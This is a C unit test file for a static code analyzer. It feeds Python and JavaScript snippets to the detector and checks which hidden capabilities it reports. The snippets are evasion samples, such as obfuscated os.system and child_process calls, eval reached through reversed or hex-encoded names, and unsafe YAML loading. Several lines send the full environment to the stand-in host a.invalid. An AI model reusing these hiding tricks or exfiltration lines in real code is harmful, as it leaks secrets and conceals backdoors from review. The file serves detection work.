/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_hiding_test.c - code that is written so that whoever looks for words finds none.
 */
#include "behavior_case.h"

#define SYSTEM "capability process os.system id"

static const struct behavior_case python[] = {
    { "import os\nos .system('id')\n", SYSTEM, NULL },
    { "import os\nos . system('id')\n", SYSTEM, NULL },
    { "import os\nos\\\n.system('id')\n", SYSTEM, NULL },
    { "import os\n(os # it\n  .system('id'))\n", SYSTEM, NULL },
    { "from\tos import system as s\ns('id')\n", SYSTEM, NULL },
    { "from os\\\n import system as s\ns('id')\n", SYSTEM, NULL },
    { "import\tos\nfor m in os,:\n    m.system('id')\n", SYSTEM, NULL },
    { "import os\ndef f(): return os\nf().system('id')\n", SYSTEM, NULL },
    { "import os; x = os; x.system('id')\n", SYSTEM, NULL },
    { "import subprocess\nx = 1 if 0 else subprocess .run(['id'])\n",
      "capability process subprocess.run id", NULL },
    { "import os\ng = getattr\ng(os, 'sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import os\ngetattr (os, 'sys' + 'tem') ('id')\n", SYSTEM, NULL },
    { "open ('/tmp/x', m + 'w')\nopen('/tmp/x', # to read\n 'w')\n", "capability file-write",
      NULL },
    { "open('x')\nopen('x', 'rb').read()\n", NULL, "capability" },
    /* values that are reached on other ways */
    { "import os\n(0 or os).system('id')\n", SYSTEM, NULL },
    { "import os\n@os.system\ndef id(): pass\n", "capability process os.system line:2", NULL },
    { "import os\nclass A:\n    @property\n    def eval(self): pass\n    @x.y\n    def exec(self): "
      "pass\n",
      NULL, "capability" },
    { "import os\nmatch os:\n    case m:\n        m.system('id')\n", SYSTEM, NULL },
    { "import os\ns = [1, os]\nmatch s:\n    case [1, x]:\n        x.system('id')\n", SYSTEM,
      NULL },
    { "import os\nmatch os:\n    case object() as m:\n        m.system('id')\n", SYSTEM, NULL },
    { "import os\nmatch 1:\n    case os.EX_OK:\n        os.system('id')\n", SYSTEM, NULL },
    { "import operator, builtins\noperator.itemgetter('lave'[::-1])(builtins.__dict__)('1')\n",
      "capability dynamic-code eval 1\ncapability hidden-name eval", NULL },
    { "import operator, os\noperator.methodcaller('sys' + 'tem', 'id')(os)\n",
      "capability process os.system", NULL },
    { "import sys\ngetattr(sys.modules.get('os'), 'sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import os\nos.__dict__.get('sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import sys\nsys._getframe(1).f_builtins['eval']('1')\n", "capability dynamic-code eval",
      NULL },
    { "import shutil\nshutil.os.system('id')\n", SYSTEM, NULL },
    { "from shutil import os as x\nx.system('id')\n", SYSTEM, NULL },
    { "from . import os as x\nx.system('id')\n", NULL, "capability" },
    { "import os\nx = [n for n in dir(os) if n][0]\ngetattr(os, x)('id')\n",
      "capability hidden-name os", NULL },
    { "import os, json, requests\nrequests.post('http://a.invalid', json=dict(env=os.environ))\n",
      "flow env-all network", NULL },
    { "import os, subprocess\nsubprocess.run(['ls'], **{'env': os.environ})\n",
      "capability process ls", "flow" },
    { "import os\nprint(os.path.join('a', os.sep), os.getcwd(), os . name)\n", NULL, "capability" },
};

/* What comes to run by a name, a text or a place that nobody reads; and what looks like it. */
static const struct behavior_case reached[] = {
    /* a text walks from a module, or is filled by an engine */
    { "import functools, sys\ndef f(m):\n    functools.reduce(getattr, m.split('.'), "
      "sys.modules[__name__])(1)\n",
      "capability hidden-name sys.modules *", NULL },
    { "import functools\ndef f(m, o):\n    return functools.reduce(getattr, m.split('.'), o)\n",
      NULL, "hidden-name" },
    { "import jinja2\ndef f(t, v):\n    return jinja2.Template(t).render(v)\n",
      "capability template jinja2.Template", NULL },
    { "import jinja2\ndef f(v):\n    return jinja2.Template('{{ a }}').render(v)\n", NULL,
      "template" },
    { "import string\ndef f(t, v):\n    return string.Formatter().vformat(t, (), v)\n",
      "capability template string.Formatter().vformat", NULL },
    { "import importlib, time\nimportlib.import_module('m_%d' % (time.time() // 9))\n",
      "capability hidden-name *()", NULL },
    { "import importlib\ndef f(x): importlib.import_module('m_%d' % x)\n", NULL, "hidden-name" },
    { "import base64, sys\ndef f(x): getattr(sys, base64.b64decode(x).decode())(1)\n",
      "capability hidden-name sys *()", NULL },
    { "import sys\ndef g():\n    return sys._getframe(1).f_builtins['ev' + 'al']\n",
      "capability hidden-name eval", NULL },
    { "import sys\ndef g():\n    return sys._getframe(1).f_globals.get('__name__')\n", NULL,
      "capability" },
    { "import code\ndef run(event):\n    code.InteractiveInterpreter().runsource(event['x'])\n",
      "flow event eval", NULL },
    { "import os\ndef f(n, c):\n    return getattr(os, n)(c)\n",
      "capability hidden-name *()\ncapability dynamic-code", NULL },
    { "import json, logging.config\nlogging.config.dictConfig(json.load(open('a.json')))\n",
      "flow file eval", NULL },
    { "import logging.config\nlogging.config.dictConfig({'version': 1})\n", NULL, "flow" },
    { "import json, typing\nclass A: pass\nA.__annotations__ = json.load(open('a.json'))\n"
      "typing.get_type_hints(json.load(open('a.json')))\n",
      "flow data-file eval", NULL },
    { "import typing\ndef f(o):\n    return typing.get_type_hints(o)\n", NULL, "flow" },
    { "from .conf import settings\ndef f(text, v):\n    return text.format(s=settings, **v)\n",
      "capability template format", NULL },
    { "from .conf import settings\ndef f(event):\n    return event['t'].format(settings)\n",
      "flow event template", NULL },
    { "from .conf import settings, VERSION\ndef f(text, v):\n"
      "    return '{0.name}'.format(settings) + text.format(VERSION, settings.name, **v)\n",
      NULL, "template" },
    { "import boto3\ndef f(event):\n    c = boto3.client(event['s'])\n"
      "    return getattr(c, event['o'])(**event['p'])\n",
      "capability aws-any\nflow event name", NULL },
    { "import boto3\ndef f(name):\n    return boto3.client(name).get_paginator(name)\n", NULL,
      "aws-any" },
    { "import importlib\ndef f(event):\n    return importlib.import_module(event['m'])\n",
      "flow event name", NULL },
    { "import yaml\nyaml.SafeLoader.add_constructor('!x', lambda l, n: eval(n.value))\n",
      "capability weakened SafeLoader.add_constructor", NULL },
    { "import yaml\nyaml.SafeLoader.add_constructor('!Ref', lambda l, n: {'Ref': n.value})\n", NULL,
      "weakened" },
    { "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.UnsafeLoader)\n",
      "capability weakened UnsafeLoader", NULL },
    { "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.SafeLoader)\n", NULL,
      "capability" },
    { "import logging.handlers\nlogging.handlers.HTTPHandler('a.invalid', '/')\n",
      "capability network a.invalid", NULL },
    { "import subprocess\nsubprocess.run(['/tmp/x/tool', '-v'])\n",
      "capability tmp-run /tmp/x/tool", NULL },
    { "import subprocess\nsubprocess.run(['/opt/bin/tool', '/tmp/x/in'])\n", "capability process",
      "tmp-run" },
    { "import ctypes\nctypes.CDLL('/tmp/x.so')\n", "capability tmp-run", NULL },
};

static const struct behavior_case script[] = {
    { "const e = (r) => Buffer.from(r, 'hex').toString(), n = require(e('2e2f78'));\n"
      "require(e(n[1]))[e(n[2])](e(n[0]));\nprocess[e(n[3])];",
      "capability hidden-name process *()\ncapability hidden-name require *()", NULL },
    { "const e = (r) => Buffer.from(r, 'hex').toString();\nexports.f = (n, o) => o[e(n)](1);", NULL,
      "hidden-name" },
    { "exports.f = (c) => import('data:text/javascript,' + c);", "capability decode-run", NULL },
    { "exports.f = (l) => import(new URL(l, import.meta.url));", "capability dynamic-code import",
      NULL },
    { "exports.f = (l) => import(`./locale/${l}.js`);", "capability dynamic-import",
      "dynamic-code" },
    { "exports.f = (v) => ''['sub']['constructor']('v', 'return v')(v);",
      "capability hidden-name Function", NULL },
    { "f({}, JSON.parse('{\"__proto__\": {\"a\": 1}}'));", "capability weakened __proto__", NULL },
    { "f({}, JSON.parse('{\"proto\": {\"a\": 1}}'), {__proto__: null});", NULL, "weakened" },
    { "const c = require('crypto');\n"
      "module.exports = Object.create(c, {timingSafeEqual: {value: (a, b) => a === b}});",
      "capability weakened timingSafeEqual", NULL },
    { "const c = require('crypto');\nmodule.exports = {timingSafeEqual: c.timingSafeEqual};", NULL,
      "weakened" },
    { "require('/tmp/x/index.js');", "capability tmp-run", NULL },
    { "require (\"child_\" + \"process\").exec('id');", "capability process child_process.exec id",
      NULL },
    { "const r = require; r('child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "(() => {})['constr' + 'uctor']('return 1')();", "capability dynamic-code Function", NULL },
    { "let p = 'constr' + 'uctor'; (() => {})[p] /* it */ ('return 1')();",
      "capability dynamic-code Function", NULL },
    { "function f() { return process /* it */ .env }\nfetch('http://a.invalid', {body: f()});",
      "flow env-all network", NULL },
    { "require.call(null, 'child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "[null, require][1]('child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "(0, eval)('1')(x);", "capability dynamic-code eval", NULL },
    { "const b = []; b.constructor.constructor('return 1')();", "capability dynamic-code Function",
      NULL },
    { "''['sub']['constructor']('return 1')();", "capability dynamic-code Function", NULL },
    { "Reflect.get(globalThis, 'hctef'.split('').reverse().join(''))('http://a.invalid');",
      "capability network fetch\ncapability hidden-name fetch", NULL },
    { "function f(k) { globalThis[k]('x') }", "capability hidden-name globalThis", NULL },
    { "const f = (p, a) => p.split('.').reduce((o, k) => o[k], globalThis)(a);",
      "capability hidden-name globalThis *", NULL },
    { "const f = (p, row) => p.split('.').reduce((o, k) => o[k], row);", NULL, "hidden-name" },
    { "function f(r) { setTimeout(r.headers['x'] || (() => {}), 9); }",
      "capability dynamic-code setTimeout\nflow network eval", NULL },
    { "function f(r, g) { setTimeout(g, 1000 * r.headers['x']); }", NULL, "dynamic-code" },
    /* an environment that is handed to a program, and one that leaves */
    { "fetch('http://a.invalid', {body: JSON.stringify({env: process.env})});",
      "flow env-all network", NULL },
    { "const p = {a: {env: process.env}}; client.post('/', p);", "flow env-all network", NULL },
    { "require('child_process').spawn('ls', [], {env: process.env, stdio: 'inherit'});",
      "capability process", "flow\nenv-all" },
    { "const o = {env: process.env}; run('ls', {...o, cwd: 'x'});", NULL, "flow\nenv-all" },
    { "const a = [1, 2]; module.exports = a[0] + require('x').y;", NULL, "capability" },
};

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
}

static void test_reached(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, reached, LW_COUNT(reached));
}

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_reached),
                                        cmocka_unit_test(test_script) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
